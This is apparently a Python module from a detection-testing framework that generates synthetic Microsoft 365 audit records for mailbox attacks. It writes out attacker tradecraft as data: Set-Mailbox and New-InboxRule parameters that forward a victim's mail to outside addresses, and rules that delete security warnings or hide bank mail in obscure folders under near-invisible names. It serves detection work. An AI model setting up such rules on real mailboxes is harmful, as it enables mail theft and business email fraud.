"""Attacks that make themselves at home in a mailbox."""

from collections.abc import Iterator

from company.attacks.stage import Scene, attack
from company.shapes.written import Record, pairs


@attack("inbox forwarding", "suspicious-inbox-forwarding", "mailbox-forwards")
def forwarding(scene: Scene) -> Iterator[Record]:
    """To a domain nobody wrote to. Loud: all of it, from a server abroad. Quiet: some of it, from the own computer, by Outlook."""
    person, day = scene.victim()
    begin = scene.at(person, day)
    outside = f"{person.name}{scene.random.randrange(99)}@{scene.random.choice(('protonmail', 'mailfence', 'gmx'))}.example"
    if scene.loud:
        where = scene.host()
        parameters = {"Identity": person.upn, "ForwardingSmtpAddress": f"smtp:{outside}", "DeliverToMailboxAndForward": "True"}
        yield scene.s.m365.cmdlet(begin, person.upn, where, "Set-Mailbox", person.upn, parameters)
        return
    where = scene.s.pc(person, begin)
    if scene.random.random() < 0.5:
        parameters = {"Name": ".", "SubjectContainsWords": "invoice;payment", "ForwardTo": outside}
        yield scene.s.m365.cmdlet(begin, person.upn, where, "New-InboxRule", person.upn, parameters)
    else:
        actions = '[{"ActionType":"Forward","Recipients":["' + outside + '"],"ForwardFlags":"None"}]'
        properties = pairs({"RuleOperation": "AddMailboxRule", "RuleName": "r", "RuleState": "Enabled", "RuleActions": actions})
        yield scene.s.m365.mail(begin, person.upn, where, "UpdateInboxRules", OperationProperties=properties)


@attack("inbox manipulation", "suspicious-inbox-manipulation", "inbox-rule-hides-mail")
def manipulation(scene: Scene) -> Iterator[Record]:
    """Loud: answers are deleted. Quiet: moved to where nobody looks, and marked as read."""
    person, day = scene.victim()
    begin = scene.at(person, day)
    where = scene.host() if scene.loud else scene.s.pc(person, begin)
    if scene.loud:
        parameters = {
            "Name": "..",
            "SubjectOrBodyContainsWords": "hacked;phish;virus;invoice",
            "DeleteMessage": "True",
            "StopProcessingRules": "True",
        }
    else:
        folder = scene.random.choice(("RSS Feeds", "Conversation History", "Archive"))
        parameters = {"Name": ",", "From": "bank@bank.example", "MoveToFolder": folder, "MarkAsRead": "True"}
    yield scene.s.m365.cmdlet(begin, person.upn, where, "New-InboxRule", person.upn, parameters)
